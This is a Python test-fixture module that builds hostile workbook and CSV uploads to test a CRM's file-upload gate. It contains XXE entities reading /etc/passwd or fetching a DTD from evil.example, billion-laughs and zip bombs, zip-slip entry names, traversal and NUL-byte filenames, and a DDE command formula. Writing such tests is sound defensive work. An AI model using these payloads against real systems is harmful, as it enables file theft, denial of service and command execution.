"""Files that want to do harm, each with the code of its refusal or what must be left (G07).

Here: the cases, built in memory when asked for. Not here: the gate that must refuse them
(`crm.core.workbook`), odd files that are right (`odd_files`), the tests that use them.
"""

from __future__ import annotations

import random
import struct
import zipfile
from collections.abc import Callable

from tests.kit.workbooks import (
    GOOD_BODY,
    MAIN,
    XML,
    Case,
    book,
    cell,
    many_rows,
    pack,
    parts,
    patched,
    renamed,
    sheet,
    text_row,
    with_parts,
    zeros,
)


def _hostile(
    name: str, make: Callable[[], bytes], *codes: str, filename: str = "客户.xlsx"
) -> Case:
    return Case(name, filename, make, frozenset(codes))


def _kept(name: str, make: Callable[[], bytes], rows: list[list[object]] | None = None) -> Case:
    return Case(name, "客户.xlsx", make, rows=rows)


# --- what is not a table -------------------------------------------------------------------------

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
_DISGUISES = (
    ("empty", b"", "empty_file"),
    ("one byte", b"P", "wrong_name"),
    ("old xls", _OLE, "old_xls"),
    ("old xls of 1993", b"\x09\x04\x06\x00\x00\x00\x10\x00" + bytes(64), "old_xls"),
    ("encrypted", _OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "other_format"),
    ("png", b"\x89PNG\r\n\x1a\n" + bytes(32), "other_format"),
    ("jpeg", b"\xff\xd8\xff\xe0" + bytes(32), "other_format"),
    ("gif", b"GIF89a\x01\x00\x01\x00" + bytes(32), "other_format"),
    ("windows program", b"MZ\x90\x00\x03" + bytes(64), "other_format"),
    ("linux program", b"\x7fELF\x02\x01\x01" + bytes(64), "other_format"),
    ("rar", b"Rar!\x1a\x07\x01\x00" + bytes(32), "other_format"),
    ("7z", b"7z\xbc\xaf\x27\x1c" + bytes(32), "other_format"),
    ("gzip", b"\x1f\x8b\x08\x00" + bytes(32), "other_format"),
    ("bzip2", b"BZh91AY&SY" + bytes(32), "other_format"),
    ("sqlite", b"SQLite format 3\x00" + bytes(100), "other_format"),
    ("rtf", b"{\\rtf1\\ansi text}", "other_format"),
    ("web page", b"<html><body><table><tr><td>1</td></tr></table></body></html>", "other_format"),
    ("xml of excel 2003", f"{XML}<Workbook/>".encode(), "other_format"),
    ("svg with script", b"<svg onload='alert(1)'></svg>", "other_format"),
    ("empty archive", b"PK\x05\x06" + bytes(18), "damaged"),
)


def _archive_of(*names: str) -> Callable[[], bytes]:
    return lambda: pack(dict.fromkeys(names, "x"))


def _type_cases() -> list[Case]:
    cases = [_hostile(name, lambda data=data: data, code) for name, data, code in _DISGUISES]
    html = b"\xef\xbb\xbf  <TABLE><tr><td>1</td></tr></TABLE>"
    csv_data = "客户名称,手机\n甲,1\n".encode()
    return [
        *cases,
        _hostile("web page as xls", lambda: html, "other_format", filename="客户.xls"),
        _hostile("web page as csv", lambda: html, "other_format", filename="客户.csv"),
        _hostile("word document", _archive_of("word/document.xml"), "other_format"),
        _hostile("presentation", _archive_of("ppt/presentation.xml"), "other_format"),
        _hostile("open document", _archive_of("mimetype", "content.xml"), "other_format"),
        _hostile("java archive", _archive_of("META-INF/MANIFEST.MF", "A.class"), "other_format"),
        _hostile("plain archive", _archive_of("a.txt"), "other_format"),
        _hostile("binary workbook", _archive_of("xl/workbook.bin"), "binary_workbook"),
        _hostile("macros", lambda: renamed("xl/vbaProject.bin"), "macros"),
        _hostile(
            "macros as xlsm", lambda: renamed("xl/vbaProject.bin"), "macros", filename="a.xlsm"
        ),
        _hostile("xlsm without macros", book, "macros", filename="a.XLSM"),
        _hostile("workbook as csv", book, "wrong_name", filename="客户.csv"),
        _hostile("workbook as xls", book, "wrong_name", filename="客户.xls"),
        _hostile("csv as xlsx", lambda: csv_data, "wrong_name"),
        _hostile("csv as xls", lambda: csv_data, "wrong_name", filename="客户.xls"),
        _hostile("workbook as exe", book, "extension", filename="客户.exe"),
        _hostile("two endings", book, "extension", filename="客户.xlsx.exe"),
        _hostile("no ending", book, "extension", filename="客户"),
        _hostile("path as name", book, "extension", filename="../../etc/passwd"),
        _hostile("NUL in name", book, "extension", filename="客户.xlsx\x00.php"),
        _hostile("21 MB", lambda: zeros(21), "too_large", filename="a.csv"),
    ]


# --- archives ------------------------------------------------------------------------------------

_LOCAL, _CENTRAL = b"PK\x03\x04", b"PK\x01\x02"


def _damaged_data() -> bytes:
    data = bytearray(book())
    position = data.find(b"xl/worksheets/sheet1.xml") + 24
    data[position : position + 20] = b"\xff" * 20
    return bytes(data)


def _overlapping() -> bytes:
    """Two entries of the directory that share one body, as in a modern zip bomb."""
    content = parts()
    content["xl/worksheets/sheet2.xml"] = content["xl/worksheets/sheet1.xml"]
    data = bytearray(pack(content))
    first = struct.unpack_from("<I", data, data.find(_CENTRAL) + 42)[0]
    last = data.rfind(_CENTRAL)
    struct.pack_into("<I", data, last + 42, first)
    return bytes(data)


def _same_name_twice() -> bytes:
    data = bytearray(with_parts(**{"xl/worksheets/sheet9.xml": sheet(GOOD_BODY)}))
    return bytes(data).replace(b"sheet9.xml", b"sheet1.xml")


def _archive_cases() -> list[Case]:
    many = {f"xl/media/{number}.txt": "x" for number in range(401)}
    return [
        _hostile("cut archive", lambda: book()[:-200], "damaged"),
        _hostile("half an archive", lambda: book()[:700], "damaged"),
        _hostile("only a header", lambda: b"PK\x03\x04" + bytes(50), "damaged"),
        _hostile("damaged data", _damaged_data, "damaged"),
        _hostile("wrong checksum", lambda: patched(_CENTRAL, 16, b"\1\2\3\4"), "damaged"),
        _hostile("flag of encryption", lambda: patched(_CENTRAL, 8, b"\x01\x00"), "encrypted"),
        _hostile("unknown compression", lambda: patched(_CENTRAL, 10, b"\x63\x00"), "damaged"),
        _hostile("bzip2 compression", lambda: pack(parts(), zipfile.ZIP_BZIP2), "damaged"),
        _hostile("lzma compression", lambda: pack(parts(), zipfile.ZIP_LZMA), "damaged"),
        _hostile("wrong size in header", lambda: patched(_CENTRAL, 24, b"\1\0\0\0"), "damaged"),
        _hostile(
            "entry beyond the end", lambda: patched(_CENTRAL, 42, b"\xff\xff\xff\x0f"), "damaged"
        ),
        _hostile("overlapping entries", _overlapping, "damaged"),
        _hostile("401 parts", lambda: pack({**parts(), **many}), "zip_entries"),
        _hostile("the same name twice", _same_name_twice, "zip_names"),
        _hostile("names alike but for case", lambda: renamed("XL/WORKBOOK.XML"), "zip_names"),
        _hostile("absolute name", lambda: renamed("/etc/cron.d/x"), "zip_names"),
        _hostile("name with ..", lambda: renamed("xl/../../x"), "zip_names"),
        _hostile("name with backslash", lambda: renamed("xl\\media\\x"), "zip_names"),
        _hostile("name with drive", lambda: renamed("C:/x"), "zip_names"),
        _hostile("bomb in a picture", lambda: renamed("xl/media/a.png", zeros(250)), "bomb"),
        _hostile("bomb in the sheet", lambda: book(body=" " * 30_000_000), "bomb"),
        _hostile("bomb in the strings", lambda: book(strings=zeros(40)), "bomb"),
        _hostile("bomb in the styles", lambda: book(styles=zeros(40)), "bomb", "damaged"),
        _hostile("embedded object", lambda: renamed("xl/embeddings/oleObject1.bin"), "embedded"),
        _hostile(
            "control with code", lambda: renamed("xl/activeX/activeX1.xml", b"<a/>"), "embedded"
        ),
        _hostile(
            "link to another workbook",
            lambda: renamed("xl/externalLinks/externalLink1.xml", b"<a/>"),
            "external_links",
        ),
        _hostile("macro sheet", lambda: renamed("xl/macrosheets/sheet1.xml", b"<a/>"), "macros"),
    ]


# --- XML -----------------------------------------------------------------------------------------

_XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
_PARAMETER = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'


def _utf16(text: str) -> bytes:
    return text.replace("UTF-8", "UTF-16").encode("utf-16")


def _xml_cases() -> list[Case]:
    base = {name: str(content) for name, content in parts().items()}
    workbook, strings = base["xl/workbook.xml"], base["xl/sharedStrings.xml"]
    deep = "<a>" * 20_000 + "</a>" * 20_000
    return [
        _hostile(
            "entity of a file",
            lambda: pack(parts(sheet1=XML + _XXE + sheet("", prolog=""))),
            "doctype",
        ),
        _hostile(
            "laughs in strings",
            lambda: pack(parts(strings=XML + _LAUGHS + strings[len(XML) :])),
            "doctype",
        ),
        _hostile(
            "parameter entity",
            lambda: pack(parts(workbook=XML + _PARAMETER + workbook[len(XML) :])),
            "doctype",
        ),
        _hostile(
            "doctype in UTF-16",
            lambda: pack(parts(workbook=_utf16(XML + _XXE + workbook[len(XML) :]))),
            "doctype",
        ),
        _hostile(
            "doctype in types",
            lambda: pack(parts(types=XML + _XXE + base["[Content_Types].xml"][len(XML) :])),
            "doctype",
        ),
        _hostile(
            "doctype in links",
            lambda: pack(parts(links=XML + _XXE + base["xl/_rels/workbook.xml.rels"][len(XML) :])),
            "doctype",
        ),
        _hostile(
            "doctype in a theme",
            lambda: renamed("xl/theme/theme1.xml", f"{XML}{_XXE}<a/>".encode()),
            "doctype",
        ),
        _hostile(
            "doctype in a drawing",
            lambda: renamed("xl/drawings/a.vml", f"{_XXE}<a/>".encode()),
            "doctype",
        ),
        _hostile(
            "doctype in custom data",
            lambda: renamed("customXml/item1.xml", f"{_LAUGHS}<a/>".encode()),
            "doctype",
        ),
        _hostile("broken sheet", lambda: book(body="<row><c></row>"), "damaged"),
        _hostile("unclosed sheet", lambda: pack(parts(sheet1=sheet(GOOD_BODY)[:-30])), "damaged"),
        _hostile("unknown entity", lambda: book(body=text_row(1, "&boom;")), "damaged"),
        _hostile("NUL in the sheet", lambda: book(body=text_row(1, "a\x00b")), "damaged"),
        _hostile("control character reference", lambda: book(body=text_row(1, "&#0;")), "damaged"),
        _hostile(
            "sheet in UTF-16", lambda: pack(parts(sheet1=_utf16(sheet(GOOD_BODY)))), "damaged"
        ),
        _hostile(
            "sheet in UTF-7",
            lambda: pack(parts(sheet1=sheet(GOOD_BODY).replace("UTF-8", "UTF-7"))),
            "damaged",
        ),
        _hostile(
            "sheet with wrong bytes",
            lambda: pack(parts(sheet1=sheet(text_row(1, "甲")).encode("gbk"))),
            "damaged",
        ),
        _hostile("deep sheet", lambda: book(body=deep), "depth"),
        _hostile(
            "deep styles",
            lambda: book(styles=f'{XML}<styleSheet xmlns="{MAIN}">{deep}</styleSheet>'),
            "depth",
        ),
        _hostile("not XML at all", lambda: book(workbook=b"\x00\x01\x02"), "damaged"),
        _hostile("text instead of a sheet", lambda: pack(parts(sheet1="hello")), "damaged"),
    ]


# --- sheets --------------------------------------------------------------------------------------


def _many_strings() -> bytes:
    noise = random.Random(1)
    items = "".join(f"<si><t>{noise.getrandbits(40):x}</t></si>" for _number in range(1_000_001))
    return book(strings=f'{XML}<sst xmlns="{MAIN}">{items}</sst>')


def _many_cells() -> bytes:
    noise = random.Random(1)
    rows = "".join(
        f'<row r="{number}">' + "<c><v>%d</v></c>" * 31 % tuple(noise.randbytes(31)) + "</row>"
        for number in range(1, 97_001)
    )
    return book(body=rows)


def _sheet_cases() -> list[Case]:
    no_sheet = str(parts()["xl/workbook.xml"]).replace("worksheet", "chartsheet")
    links = str(parts()["xl/_rels/workbook.xml.rels"])
    chart = links.replace('/worksheet"', '/chartsheet"').replace("worksheets/", "chartsheets/")
    return [
        _hostile(
            "cell XFD1048576",
            lambda: book(body=f'<row r="1048576">{cell("XFD1048576")}</row>'),
            "rows",
            "columns",
        ),
        _hostile(
            "cell in row 1048576",
            lambda: book(body=f'<row r="1048576">{cell("A1048576")}</row>'),
            "rows",
        ),
        _hostile(
            "far cell in a near row",
            lambda: book(body=f'<row r="1">{cell("A999999")}</row>'),
            "rows",
        ),
        _hostile("column IW", lambda: book(body=f'<row r="1">{cell("IW1")}</row>'), "columns"),
        _hostile(
            "column of seven letters",
            lambda: book(body=f'<row r="1">{cell("ZZZZZZZ1")}</row>'),
            "columns",
        ),
        _hostile(
            "row of 19 digits",
            lambda: book(body=f'<row r="9999999999999999999">{cell("A1")}</row>'),
            "rows",
        ),
        _hostile("101,001 rows", lambda: book(body=many_rows(101_001)), "rows"),
        _hostile("3,007,000 cells", _many_cells, "cells"),
        _hostile(
            "90,000 rows by 200 columns",
            lambda: book(
                body=f'<row r="1">{cell("GR1")}</row><row r="90000">{cell("A90000")}</row>'
            ),
            "area",
        ),
        _hostile(
            "300 cells without reference",
            lambda: book(body="<row>" + "<c><v>1</v></c>" * 300 + "</row>"),
            "columns",
        ),
        _hostile("a million strings", _many_strings, "strings"),
        _hostile("text of 40,000 characters", lambda: book(body=text_row(1, "x" * 40_000)), "text"),
        _hostile(
            "string that does not exist",
            lambda: book(body=f'<row r="1">{cell("A1", 99999, "s")}</row>'),
            "damaged",
            "no_sheet",
        ),
        _kept(
            "string number minus one", lambda: book(body=f'<row r="1">{cell("A1", -1, "s")}</row>')
        ),
        _hostile(
            "no worksheet",
            lambda: book(workbook=f'{XML}<workbook xmlns="{MAIN}"><sheets/></workbook>'),
            "no_sheet",
            "damaged",
        ),
        _hostile(
            "sheet that is not there",
            lambda: pack({name: data for name, data in parts().items() if "sheet1" not in name}),
            "damaged",
            "no_sheet",
        ),
        _hostile(
            "chart instead of a sheet",
            lambda: pack(
                {
                    **parts(links=chart, workbook=no_sheet),
                    "xl/chartsheets/sheet1.xml": f'<chartsheet xmlns="{MAIN}"/>',
                }
            ),
            "no_sheet",
            "damaged",
        ),
        _hostile(
            "nothing but blank cells", lambda: book(body='<row r="1"><c r="A1"/></row>'), "no_sheet"
        ),
        _hostile(
            "no links",
            lambda: pack(
                {
                    name: data
                    for name, data in parts().items()
                    if not name.endswith("workbook.xml.rels")
                }
            ),
            "damaged",
            "no_sheet",
        ),
        _kept(
            "number of a million digits",
            lambda: book(
                body=text_row(1, "客户名称", "手机")
                + f'<row r="2">{cell("A2", "9" * 1_000_000)}</row>'
            ),
        ),
        _kept(
            "number 1e1000000",
            lambda: book(
                body=text_row(1, "客户名称", "手机") + f'<row r="2">{cell("A2", "1e1000000")}</row>'
            ),
        ),
        _kept(
            "date of year 10^290",
            lambda: book(body=f'<row r="1"><c r="A1" s="1"><v>1e300</v></c>{cell("B1")}</row>'),
        ),
        _kept(
            "negative date",
            lambda: book(body=f'<row r="1"><c r="A1" s="1"><v>-5</v></c>{cell("B1")}</row>'),
        ),
        _kept(
            "style that does not exist",
            lambda: book(body='<row r="1"><c r="A1" s="77777"><v>1</v></c></row>'),
            [[1]],
        ),
        _kept(
            "formula with command",
            lambda: book(
                body='<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c>'
                + cell("B1", 5)
                + "</row>"
            ),
            [["#FORMULA!", 5]],
        ),
        _kept(
            "text like a formula",
            lambda: book(body=text_row(1, '=HYPERLINK("http://evil.example")')),
            [['=HYPERLINK("http://evil.example")']],
        ),
    ]


# --- text ----------------------------------------------------------------------------------------


def _csv(name: str, data: bytes | str, *codes: str) -> Case:
    content = data if isinstance(data, bytes) else data.encode()
    return _hostile(name, lambda: content, *codes, filename="客户.csv")


def _text_cases() -> list[Case]:
    noise = random.Random(1).randbytes(3_000)
    return [
        _csv("random bytes", b"a,b\n" + noise, "not_text", "encoding"),
        _csv("NUL in a field", b"a,b\n1\x002,3\n", "not_text"),
        _csv("control characters", "a,b\n" + "\x01\x02\x03\x04" * 50, "not_text"),
        _csv(
            "damaged Chinese",
            "名称,电话\n甲,1\n".encode("gb18030") + b"\xff\xff\xff\xff,2\n",
            "encoding",
        ),
        _csv("UTF-32", "a,b\n1,2\n".encode("utf-32"), "encoding"),
        _csv("half a UTF-16", "甲,b\n1,2\n".encode("utf-16")[:-1], "encoding"),
        _csv("quote never closed", 'a,b\n"1,2\n' + "x,y\n" * 60_000, "quotes", "text"),
        _csv("300 columns", ",".join(["a"] * 300) + "\n", "columns"),
        _csv("a million commas", "a" + "," * 1_000_000 + "b\n", "columns"),
        _csv("101,001 lines", "a,b\n" * 101_001, "rows"),
        _csv("field of 40,000 characters", "a,b\n" + "x" * 40_000 + ",1\n", "text"),
    ]


def hostile() -> list[Case]:
    """Return every file that must be refused, or whose bad cells must come to nothing."""
    return [*_type_cases(), *_archive_cases(), *_xml_cases(), *_sheet_cases(), *_text_cases()]
